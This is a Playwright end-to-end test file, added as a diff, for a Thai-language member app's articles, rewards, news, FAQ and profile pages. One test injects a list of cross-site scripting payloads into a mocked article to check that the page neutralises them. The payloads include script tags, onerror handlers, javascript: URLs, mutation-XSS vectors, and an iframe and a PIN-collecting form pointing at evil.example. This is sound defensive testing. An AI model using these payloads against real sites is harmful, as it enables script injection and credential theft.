@@ -1,0 +1,245 @@
+// Proves articles from a door to the thing itself: an activity joined, a prize begun, what cannot be had, news, tips, questions with their film, and words that mean harm (M14, M17, M18).
+import type { Page } from "@playwright/test";
+import {
+	getDetail,
+	submitParticipationRegister,
+} from "../../../src/contract/article";
+import { say } from "../../support/catalogue";
+import { expect, test } from "../support/fixtures";
+import { type Customer, chooseLanguage, newCustomer } from "../support/journey";
+import { button, guardGone, pressLocked } from "../support/person";
+
+/** A phone on which this customer signed in on an earlier day. */
+async function openAs(page: Page, { api }: Customer, path: string) {
+	await chooseLanguage(page, "th");
+	await page.addInitScript((token) => {
+		if (localStorage.getItem("token") === null)
+			localStorage.setItem("token", token);
+	}, api.token);
+	await page.goto(path);
+}
+
+test("an activity of home's banner is joined once and stays joined; without a network nothing is said to be", async ({
+	page,
+	customer,
+	door,
+}) => {
+	const person = { page, language: "th" } as const;
+	await openAs(page, customer, "/");
+	await page
+		.getByRole("link", { name: /คืนดนตรีใต้ดวงดาว/ })
+		.first()
+		.click();
+	await expect(page).toHaveURL(/\/article\?alt_reference=AR_1001$/);
+	await expect(page.getByRole("heading", { level: 1 })).toContainText(
+		"คืนดนตรีใต้ดวงดาว",
+	);
+	await page
+		.getByRole("button", { name: say("th", "Share this article") })
+		.click();
+	const shared = `${door.address}/share?type=detail&cmd_detail_id=AR_1001`;
+	const sheet = page.getByRole("dialog", {
+		name: say("th", "Share this article"),
+	});
+	await expect(sheet).toContainText(shared);
+	await button(person, "Close").click();
+	await expect(sheet).toBeHidden();
+	await guardGone(page);
+	const lost = door.plant("SubmitParticipationRegister", {
+		kind: "dropBefore",
+	});
+	await button(person, "Join the activity").click();
+	await button(person, "Close").click();
+	await guardGone(page);
+	lost.release();
+	await button(person, "Join the activity").click();
+	await expect(
+		page.getByRole("dialog", { name: say("th", "Registration successful") }),
+	).toBeVisible();
+	await button(person, "Done").click();
+	await guardGone(page);
+	await expect(button(person, "Registered")).toBeDisabled();
+	const { article } = await customer.api.call(getDetail, {
+		alt_reference: "AR_1001",
+	});
+	expect(article.article_state_complete).toBe(true);
+	// Whoever gets the link comes to the same article.
+	await page.goto(shared);
+	await expect(page).toHaveURL(
+		/\/registration_reward\/detail\?alt_reference=AR_1001$/,
+	);
+	await expect(button(person, "Registered")).toBeDisabled();
+});
+
+test("a reward that is sent leads to its address with its days; one sold out says so; one for others says whom it is for", async ({
+	page,
+	appAddress,
+}) => {
+	const person = { page, language: "th" } as const;
+	const standard = await newCustomer(appAddress, "standard");
+	await openAs(page, standard, "/registration_reward");
+	await page.getByRole("link", { name: "น้ำหอมขนาดพกพา" }).click();
+	const gone = page.locator("button[data-locked]");
+	await expect(gone).toHaveText(say("th", "Out of stock"));
+	await page.goBack();
+	await page.getByRole("link", { name: /อัปเกรดห้องสวีท/ }).click();
+	await pressLocked(person);
+	await expect(page.getByRole("dialog")).toContainText("Platinum");
+	await button(person, "Close").click();
+	await guardGone(page);
+	await page.goBack();
+	await page.getByRole("link", { name: /กระเป๋าผ้ารุ่นพิเศษ/ }).click();
+	// The privilege's own words for its button.
+	await page
+		.getByRole("main")
+		.getByRole("button", { name: "กรอกที่อยู่จัดส่ง" })
+		.click();
+	await expect(page.getByRole("dialog")).toContainText(
+		/\d+\u00a0\S+\u00a025\d\d/,
+	);
+	await page
+		.getByRole("dialog")
+		.getByRole("button", { name: say("th", "Enter the address") })
+		.click();
+	await expect(page).toHaveURL(/\/address\?module=registration_reward$/);
+});
+
+test("news keep their tab; a question opens with its film behind a tap; a tip is read; the call center is a call away", async ({
+	page,
+	customer,
+}) => {
+	await openAs(page, customer, "/announcement");
+	await page.getByRole("tab", { name: say("th", "Results") }).click();
+	await page.getByRole("link", { name: /ผลภารกิจอวกาศ/ }).click();
+	await expect(page).toHaveURL(
+		/\/announcement\/detail\?tab=ResultsBoard&articleId=\d+$/,
+	);
+	await expect(page.getByRole("heading", { level: 1 })).toContainText(
+		"ผลภารกิจอวกาศ",
+	);
+	await page.getByRole("button", { name: say("th", "Back") }).click();
+	await expect(
+		page.getByRole("tab", { name: say("th", "Results") }),
+	).toHaveAttribute("aria-selected", "true");
+
+	await page.goto("/faq");
+	const question = page.getByRole("group").filter({ hasText: "ใช้แอปครั้งแรก" });
+	await question.locator("summary").click();
+	await expect(question.locator("iframe")).toHaveCount(0);
+	await question.getByRole("button").click();
+	await expect(question.locator("iframe")).toHaveAttribute(
+		"src",
+		/^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]{11}\?/,
+	);
+	await expect(page.locator("a[href^='tel:']")).toBeVisible();
+
+	await page.goto("/tips");
+	await page.getByRole("link", { name: /ติดตามของรางวัล/ }).click();
+	await expect(page).toHaveURL(/\/tips\/detail\?tipsRef=AR_1203$/);
+	await expect(page.getByRole("heading", { level: 1 })).toContainText(
+		"ติดตามของรางวัล",
+	);
+});
+
+test("an article's button opens its coupon over it, its survey, the game; the profile leads to those to learn more from", async ({
+	page,
+	appAddress,
+}) => {
+	const member = await newCustomer(appAddress, "terms");
+	const main = page.getByRole("main");
+	await openAs(page, member, "/article?alt_reference=AR_1005");
+	await main
+		.getByRole("button", { name: say("th", "Get this privilege") })
+		.click();
+	await expect(page).toHaveURL(/\/article\?.*modal-privilege=PV_1029/);
+	await expect(page.getByRole("dialog").getByRole("tab").first()).toBeVisible();
+	await page.goto("/article?alt_reference=AR_1002");
+	await main.getByRole("button", { name: "ตอบแบบสอบถาม" }).click();
+	await expect(page).toHaveURL(/\/survey\?ref=SVY_1001&module=banner$/);
+	await expect(page.getByRole("radio").first()).toBeVisible();
+	await page.goto("/article?alt_reference=AR_1011");
+	await main.getByRole("button", { name: "เล่นเกม" }).click();
+	await page.waitForURL((url) => /game/.test(url.pathname));
+
+	await page.goto("/profile");
+	// What can still be had is counted, an updated term has its dot.
+	await expect(
+		main.getByRole("link", { name: say("th", "Registration rewards") }),
+	).toContainText(/\d/);
+	await expect(
+		main.getByRole("link", { name: say("th", "Terms and conditions") }),
+	).toContainText(say("th", "Updated"));
+	const about = main.locator("a[href^='/article?alt_reference=']").last();
+	const title = (await about.innerText()).trim();
+	await about.click();
+	await expect(page.getByRole("heading", { level: 1 })).toHaveText(title);
+	await page.goto("/learnmore");
+	await page.getByRole("link", { name: title }).click();
+	await expect(page).toHaveURL(/\/article\?alt_reference=AR_\d+$/);
+	await expect(page.getByRole("heading", { level: 1 })).toHaveText(title);
+});
+
+test("words that mean harm do nothing in an article, whose button and film lead nowhere either", async ({
+	page,
+	customer,
+	door,
+}) => {
+	const { article } = await customer.api.call(getDetail, {
+		alt_reference: "AR_1012",
+	});
+	const harm = [
+		"<script>window.harmed = 1</script>",
+		'<img src="x" onerror="window.harmed = 1">',
+		'<a href="javascript:window.harmed=1">ลิงก์</a>',
+		'<iframe src="https://evil.example"></iframe>',
+		'<form action="https://evil.example"><input name="pin"></form>',
+		'<svg><p><style><!--</style><img title="--><img src=x onerror=window.harmed=1>">',
+		"<math><mi><mglyph><style><img src=x onerror=window.harmed=1>",
+	].join("<p>ดีล</p>");
+	door.plant("Article/Detail", {
+		kind: "reply",
+		status: 200,
+		body: JSON.stringify({
+			status: "success",
+			data: {
+				article: {
+					...article,
+					article_title_th: "<img src=x onerror=window.harmed=1>",
+					content_th: harm,
+					content_video_url: "javascript:window.harmed=1",
+					reference: "javascript:window.harmed=1",
+					button_name_th: "<b>กด</b>",
+				},
+			},
+		}),
+	});
+	await openAs(page, customer, "/article?alt_reference=AR_1012");
+	await expect(page.getByRole("heading", { level: 1 })).toHaveText(
+		"<img src=x onerror=window.harmed=1>",
+	);
+	await expect(page.getByText("ดีล").first()).toBeVisible();
+	await expect(page.getByRole("button", { name: "<b>กด</b>" })).toBeDisabled();
+	await page.getByText("ลิงก์").click();
+	await expect(page.locator("iframe, form, article script")).toHaveCount(0);
+	expect(await page.evaluate(() => "harmed" in window)).toBe(false);
+});
+
+test("an article that is not there says so; one that is lost on the way comes with another try", async ({
+	page,
+	customer,
+	door,
+}) => {
+	const person = { page, language: "th" } as const;
+	await customer.api.call(submitParticipationRegister, { article_id: "1013" });
+	await openAs(page, customer, "/article?alt_reference=AR_9999");
+	await expect(
+		page.getByRole("heading", { name: say("th", "Article not found") }),
+	).toBeVisible();
+	const lost = door.plant("Article/Detail", { kind: "dropBefore" });
+	await page.goto("/article?alt_reference=AR_1013");
+	const again = button(person, "Try again");
+	await expect(again).toBeVisible();
+	lost.release();
+	await again.click();
+	await expect(button(person, "Registered")).toBeDisabled();
+});
